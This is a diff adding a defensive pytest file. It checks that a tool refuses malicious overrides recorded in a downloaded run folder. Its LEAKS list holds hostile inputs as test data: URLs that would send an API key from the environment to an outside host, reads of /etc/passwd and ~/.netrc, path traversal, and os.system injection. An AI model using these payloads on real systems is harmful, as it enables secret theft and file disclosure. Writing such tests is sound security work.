@@ -1,0 +1,202 @@
+"""A run's folder of others: its record sends nothing, reads no file elsewhere, and says what it wanted."""
+
+import json
+import re
+import shlex
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+import yaml
+from workbench import CONF, foredraft, make_target, write_prompts
+
+from decode.errors import UserError
+from distill.cli.checkpoint_defaults import with_run_settings
+from distill.cli.main import rewrite
+from distill.config.compose import compose
+
+KEY = "sk-a-secret-of-the-environment"
+
+
+class Listener(BaseHTTPRequestHandler):
+    """Notes what it is asked for."""
+
+    def do_GET(self):
+        """Any address."""
+        self.server.asked.append(self.path)
+        self.send_error(404)
+
+    do_HEAD = do_GET  # noqa: N815  (the names of http.server)
+
+    def log_message(self, *_):
+        """Nothing."""
+
+
+@pytest.fixture
+def host(monkeypatch):
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    server.asked = []
+    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
+    thread.start()
+    monkeypatch.setenv("OPENAI_API_KEY", KEY)
+    yield server
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+@pytest.fixture
+def run(tmp_path, monkeypatch):
+    """A run's folder as one downloads it: `run(lines)` writes its record and is the checkpoint."""
+    folder = tmp_path / "downloaded"
+    (folder / ".hydra").mkdir(parents=True)
+    checkpoint = folder / "checkpoints" / "last"
+    checkpoint.mkdir(parents=True)
+    target = {"name": "data/pocket", "revision": None, "fingerprint": "x", "tokenizer": ""}
+    config = {"format": 1, "drafter": "eagle", "settings": {}, "target": target}
+    (checkpoint / "config.json").write_text(json.dumps(config))
+    (tmp_path / "elsewhere").mkdir()
+    monkeypatch.chdir(tmp_path / "elsewhere")
+
+    def write(*lines):
+        (folder / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(list(lines)))
+        return checkpoint
+
+    return write
+
+
+# `HOST` is the listener's address.
+LEAKS = [
+    "prompts.files=['http://HOST/${ oc.env:OPENAI_API_KEY}.jsonl']",
+    "prompts.files=[[http://HOST/${oc.env:OPENAI_API_KEY}]]",
+    "prompts.files='http://HOST/${oc.decode:${oc.env:OPENAI_API_KEY}}'",
+    'prompts.files="http://HOST/\\${oc.env:OPENAI_API_KEY}"',
+    "prompts.files=['http://HOST/x.jsonl']",
+    "prompts.dataset='me/${ oc.env:OPENAI_API_KEY}'",
+    "prompts.dataset=me/data",
+    "prompts.name='${${prompts.split}.env:OPENAI_API_KEY}'",
+    "prompts.columns={prompt: '${ oc.env:OPENAI_API_KEY}'}",
+    "prompts.template_options={a: [{b: '${oc.env:OPENAI_API_KEY}'}]}",
+    "prompts.template_options.a=${oc.env:OPENAI_API_KEY}",
+    "prompts.sources=[{dataset: json, files: 'http://HOST/x.jsonl'}]",
+    "prompts.sources=[{path: 'a.jsonl', name: '${ oc.env:OPENAI_API_KEY}'}]",
+    "prompts.sources=[[{path: /etc/passwd}]]",
+    "prompts.path='http://HOST/x.jsonl'",
+    "prompts.path=/etc/passwd",
+    "prompts.path=~/.netrc",
+    "prompts.path=../private.jsonl",
+    "prompts.path=a/../../private.jsonl",
+    "prompts.path=link.jsonl",
+    "prompts.heldout='${oc.env:HOME}/x.jsonl'",
+    "prompts.path=a.jsonl,/etc/passwd",
+    "prompts.path=choice(a.jsonl,b.jsonl)",
+    "prompts.path=glob(*)",
+    "prompts=../../etc/x",
+    "prompts='${oc.env:OPENAI_API_KEY}'",
+    "++prompts.files=['http://HOST/x.jsonl']",
+    "+prompts.dataset=me/data",
+    "~prompts.path",
+    "prompts@target=jsonl",
+    "prompts._target_=os.system",
+    "prompts.sources=[{_target_: os.system}]",
+    "prompts.path={_target_: os.system}",
+    "prompts.template='x\x1b[2J'",
+    "prompts.path='x",
+]
+
+
+@pytest.mark.parametrize("line", LEAKS)
+def test_what_a_record_wants_of_the_outside_is_asked_for(run, host, line, tmp_path):
+    (tmp_path / "private.jsonl").write_text("")
+    (tmp_path / "elsewhere" / "link.jsonl").symlink_to(tmp_path / "private.jsonl")
+    line = line.replace("HOST", f"127.0.0.1:{host.server_port}")
+    checkpoint = run("drafter=eagle", line)
+    done = foredraft("score", f"checkpoint={checkpoint}")
+    done.refused(str(tmp_path / "downloaded" / ".hydra" / "overrides.yaml"))
+    assert re.search("give [\"']?prompts", done.err)
+    assert KEY not in done.out + done.err
+    assert done.err.rstrip("\n").isprintable()
+    assert not host.asked
+
+
+def test_a_command_that_reads_no_prompts_takes_the_template_only(run, host):
+    line = f"prompts.files=['http://127.0.0.1:{host.server_port}/${{ oc.env:OPENAI_API_KEY}}.jsonl']"
+    argv = [f"checkpoint={run(line, 'prompts.template=none', 'prompts.path=/etc/passwd')}"]
+    assert with_run_settings(argv, CONF, "generate") == ["prompts.template=none", *argv]
+
+
+def test_the_question_holds_options_that_answer_it(run, tmp_path):
+    """Given as they are printed, they are taken: all of the run's settings, no fewer."""
+    file = write_prompts(tmp_path / "my prompts.jsonl", 3)
+    settings = ["prompts=jsonl", f"prompts.path='{file}'", "prompts.columns={prompt: question}"]
+    argv = [f"checkpoint={run(*settings, 'prompts.limit=7')}"]
+    with pytest.raises(UserError, match="a file outside of the run's folder") as error:
+        with_run_settings(argv, CONF, "score_checkpoint")
+    given = shlex.split(str(error.value).partition("give ")[2])
+    found = rewrite(with_run_settings([*given, *argv], CONF, "score_checkpoint"), CONF)
+    expected = compose([*settings, "prompts.limit=7", "checkpoint=x"], CONF, "score_checkpoint").prompts
+    assert compose(found, CONF, "score_checkpoint").prompts == expected
+
+
+def test_what_reads_the_environment_is_left_for_the_user_to_write(run):
+    argv = [f"checkpoint={run('prompts=jsonl', 'prompts.path=${oc.env:DATA}/x.jsonl')}"]
+    with pytest.raises(UserError, match=r"give prompts=jsonl prompts\.path=\.\.\.$"):
+        with_run_settings(argv, CONF, "score_checkpoint")
+
+
+@pytest.mark.parametrize(
+    "record", ["- [a, b]", "{a: b}", "- prompts.path: x", "[", "\x00", "- 'x", "- a\n- 1"]
+)
+def test_a_damaged_record_is_one_line(run, record, tmp_path):
+    checkpoint = run()
+    (tmp_path / "downloaded" / ".hydra" / "overrides.yaml").write_text(record)
+    with pytest.raises(UserError, match="no record of a run's options; remove it, and give prompts"):
+        with_run_settings([f"checkpoint={checkpoint}"], CONF, "score_checkpoint")
+
+
+@pytest.mark.parametrize(
+    "experiment", ["../../../evil/x", "/tmp/x", "${oc.env:HOME}", "nothing", "a,b", "[a]"]
+)
+def test_an_experiment_is_one_of_ours(run, experiment, tmp_path):
+    (tmp_path / "evil").mkdir()
+    (tmp_path / "evil" / "x.yaml").write_text("prompts: {files: ['http://127.0.0.1:9/x']}")
+    argv = [f"checkpoint={run(f'experiment={experiment}')}"]
+    assert with_run_settings(argv, CONF, "score_checkpoint") == argv
+
+
+def test_files_in_the_run_and_below_the_current_folder_are_taken(run, tmp_path):
+    inside = write_prompts(tmp_path / "downloaded" / "p.jsonl", 3)
+    settings = [f"prompts.path='{inside}'", "prompts.heldout='data/prompts/heldout.jsonl'", "prompts.limit=2"]
+    settings += [
+        "prompts.sources=[{path: 'a.jsonl', weight: 2}]",
+        "prompts.template_options={a: true, b: 'é\\''}",
+    ]
+    argv = [f"checkpoint={run(*settings)}"]
+    found = with_run_settings(argv, CONF, "score_checkpoint")[:-1]
+    assert compose(found + argv, CONF, "score_checkpoint").prompts == (
+        compose(settings + argv, CONF, "score_checkpoint").prompts
+    )
+
+
+@pytest.mark.parametrize(
+    "said", [[], {"held_out": 1}, {"held_out": 1, "tokens": "${oc.env:HOME}"}, {"held_out": 1, "tokens": -1}]
+)
+def test_a_limit_of_a_record_is_a_number(run, said, tmp_path):
+    checkpoint = run()
+    (tmp_path / "downloaded" / "prompts.json").write_text(json.dumps({"too_long": said}))
+    argv = [f"checkpoint={checkpoint}"]
+    if not said:
+        assert with_run_settings(argv, CONF, "score_checkpoint") == argv
+        return
+    with pytest.raises(UserError, match=r"give prompts\.max_tokens"):
+        with_run_settings(argv, CONF, "score_checkpoint")
+
+
+def test_a_stores_target_is_a_name_too(tmp_path, host):
+    make_target(tmp_path / "target")
+    for name, revision in (("me/${ oc.env:OPENAI_API_KEY}", None), ("me/x", ["a"]), ("a\n", None)):
+        (tmp_path / "manifest.json").write_text(
+            json.dumps({"origin": {"target": name, "revision": revision}})
+        )
+        with pytest.raises(UserError, match="no name of a target"):
+            with_run_settings([f"store={tmp_path}"], CONF, "inspect_data")
